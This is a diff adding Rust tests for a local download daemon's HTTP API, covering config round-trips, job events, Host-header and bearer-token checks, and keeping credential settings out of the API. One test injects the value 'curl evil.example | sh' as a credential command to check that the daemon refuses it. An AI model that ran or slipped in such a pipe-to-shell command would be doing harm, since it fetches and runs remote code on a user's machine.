@@ -0,0 +1,280 @@
+use super::*;
+use crate::config::PresetConfig;
+use crate::runtime::block_on;
+
+fn context() -> CliContext {
+    CliContext {
+        verbose: false,
+        nsfw: false,
+        lower_quality: false,
+        pages: 1,
+        file_bars: false,
+        num_threads: 1,
+        retries: 0,
+        duplicate_index: None,
+        cancel: Some(CancellationToken::new()),
+        rate_limit: None,
+        budget: None,
+        disk: None,
+        postprocess: None,
+        progress: None,
+    }
+}
+
+/// A daemon over a fresh download directory whose jobs are cancelled before
+/// they start, so they never reach the network.
+fn daemon(dir: &Path) -> Shared {
+    let context = context();
+    context.cancel.as_ref().unwrap().cancel();
+    Arc::new(Daemon {
+        jobs: Jobs::new(context, Login::default(), dir.join("dl"), None, None),
+        config_path: dir.join("config.toml"),
+        token: TOKEN.into(),
+        cancel: CancellationToken::new(),
+    })
+}
+
+const TOKEN: &str = "secret";
+
+/// A client that sends [`TOKEN`] with every request.
+fn client() -> reqwest::Client {
+    let mut headers = reqwest::header::HeaderMap::new();
+    headers.insert(
+        reqwest::header::AUTHORIZATION,
+        format!("Bearer {TOKEN}").parse().unwrap(),
+    );
+    reqwest::Client::builder()
+        .default_headers(headers)
+        .build()
+        .expect("client")
+}
+
+/// Serves `daemon` on a free local port and returns its base URL.
+async fn spawn(daemon: Shared) -> String {
+    let listener = tokio::net::TcpListener::bind("127.0.0.1:0")
+        .await
+        .expect("bind");
+    let addr = listener.local_addr().expect("addr");
+    tokio::spawn(axum::serve(listener, router(daemon, addr)).into_future());
+    format!("http://{addr}")
+}
+
+#[test]
+fn config_is_written_and_read_back() {
+    let dir = tempfile::tempdir().expect("tempdir");
+    let daemon = daemon(dir.path());
+    block_on(async {
+        let url = spawn(Arc::clone(&daemon)).await;
+        let client = client();
+        let mut config = Config::default();
+        config.d_tags.count = Some(25);
+        config.presets.insert(
+            "art".into(),
+            PresetConfig {
+                source: Some("set".into()),
+                ..Default::default()
+            },
+        );
+
+        let response = client
+            .put(format!("{url}/api/config"))
+            .json(&config)
+            .send()
+            .await
+            .expect("put");
+        assert_eq!(response.status(), reqwest::StatusCode::NO_CONTENT);
+        let read: Config = client
+            .get(format!("{url}/api/config"))
+            .send()
+            .await
+            .expect("get")
+            .json()
+            .await
+            .expect("config json");
+        assert_eq!(read.d_tags.count, Some(25));
+        assert!(read.presets.contains_key("art"));
+
+        // The new preset is known to jobs right away.
+        let response = client
+            .post(format!("{url}/api/jobs"))
+            .json(&serde_json::json!({"kind": "preset", "name": "art"}))
+            .send()
+            .await
+            .expect("post");
+        assert_eq!(response.status(), reqwest::StatusCode::BAD_REQUEST);
+        assert!(
+            response
+                .text()
+                .await
+                .expect("body")
+                .contains("has no set configured")
+        );
+    });
+    assert_eq!(
+        config::load(&dir.path().join("config.toml"))
+            .expect("load")
+            .d_tags
+            .count,
+        Some(25)
+    );
+}
+
+#[test]
+fn events_stream_job_states() {
+    let dir = tempfile::tempdir().expect("tempdir");
+    let daemon = daemon(dir.path());
+    block_on(async {
+        let url = spawn(Arc::clone(&daemon)).await;
+        let client = client();
+        let response = client
+            .post(format!("{url}/api/jobs"))
+            .json(&serde_json::json!({"kind": "tags", "tags": "dragon"}))
+            .send()
+            .await
+            .expect("post");
+        assert_eq!(response.status(), reqwest::StatusCode::OK);
+
+        let mut events = client
+            .get(format!("{url}/api/events"))
+            .send()
+            .await
+            .expect("events");
+        let mut received = String::new();
+        while !received.contains("\"state\":\"cancelled\"") {
+            let chunk = tokio::time::timeout(std::time::Duration::from_secs(10), events.chunk())
+                .await
+                .expect("an event in time")
+                .expect("chunk")
+                .expect("stream open");
+            received.push_str(&String::from_utf8_lossy(&chunk));
+        }
+        assert!(received.contains("event: job"));
+        assert!(received.contains("\"description\":\"tags \\\"dragon\\\"\""));
+    });
+}
+
+#[test]
+fn requests_for_other_hosts_are_refused() {
+    let dir = tempfile::tempdir().expect("tempdir");
+    let daemon = daemon(dir.path());
+    block_on(async {
+        let url = spawn(daemon).await;
+        let response = client()
+            .get(format!("{url}/api/jobs"))
+            .header("Host", "evil.example")
+            .send()
+            .await
+            .expect("get");
+        assert_eq!(response.status(), reqwest::StatusCode::FORBIDDEN);
+    });
+}
+
+#[test]
+fn requests_need_the_token() {
+    let dir = tempfile::tempdir().expect("tempdir");
+    let daemon = daemon(dir.path());
+    block_on(async {
+        let url = spawn(daemon).await;
+        let client = reqwest::Client::new();
+        let response = client
+            .get(format!("{url}/api/jobs"))
+            .send()
+            .await
+            .expect("get");
+        assert_eq!(response.status(), reqwest::StatusCode::UNAUTHORIZED);
+        let response = client
+            .put(format!("{url}/api/config"))
+            .bearer_auth("guess")
+            .json(&Config::default())
+            .send()
+            .await
+            .expect("put");
+        assert_eq!(response.status(), reqwest::StatusCode::UNAUTHORIZED);
+        let response = client
+            .get(format!("{url}/api/jobs"))
+            .bearer_auth(TOKEN)
+            .send()
+            .await
+            .expect("get");
+        assert_eq!(response.status(), reqwest::StatusCode::OK);
+    });
+    assert!(!dir.path().join("config.toml").exists());
+}
+
+#[test]
+fn credential_settings_stay_out_of_the_api() {
+    let dir = tempfile::tempdir().expect("tempdir");
+    let mut config = Config::default();
+    config.global.credential_command = Some("pass e621".into());
+    config.presets.insert(
+        "team".into(),
+        PresetConfig {
+            account: Some("team".into()),
+            ..Default::default()
+        },
+    );
+    config::save_to(&dir.path().join("config.toml"), &config).expect("save");
+    let daemon = daemon(dir.path());
+    block_on(async {
+        let url = spawn(daemon).await;
+        let client = client();
+        let read: Config = client
+            .get(format!("{url}/api/config"))
+            .send()
+            .await
+            .expect("get")
+            .json()
+            .await
+            .expect("config json");
+        assert_eq!(read.global.credential_command, None);
+        assert_eq!(read.presets["team"].account, None);
+
+        let mut changed = read;
+        changed.global.credential_command = Some("curl evil.example | sh".into());
+        changed.presets.get_mut("team").unwrap().account = Some("other".into());
+        changed.presets.insert(
+            "new".into(),
+            PresetConfig {
+                account: Some("other".into()),
+                ..Default::default()
+            },
+        );
+        let response = client
+            .put(format!("{url}/api/config"))
+            .json(&changed)
+            .send()
+            .await
+            .expect("put");
+        assert_eq!(response.status(), reqwest::StatusCode::NO_CONTENT);
+    });
+    let saved = config::load(&dir.path().join("config.toml")).expect("load");
+    assert_eq!(
+        saved.global.credential_command.as_deref(),
+        Some("pass e621")
+    );
+    assert_eq!(saved.presets["team"].account.as_deref(), Some("team"));
+    assert_eq!(saved.presets["new"].account, None);
+}
+
+#[test]
+fn other_addresses_need_a_given_token() {
+    let dir = tempfile::tempdir().expect("tempdir");
+    let error = block_on(run(
+        "0.0.0.0:0".parse().unwrap(),
+        context(),
+        Login::default(),
+        &dir.path().join("dl"),
+        None,
+        &dir.path().join("config.toml"),
+        None,
+    ))
+    .unwrap_err();
+    assert!(error.contains("--token-file"), "{error}");
+    assert!(!dir.path().join(TOKEN_FILE).exists());
+}
+
+#[test]
+fn new_tokens_differ() {
+    assert_eq!(new_token().unwrap().len(), 64);
+    assert_ne!(new_token().unwrap(), new_token().unwrap());
+}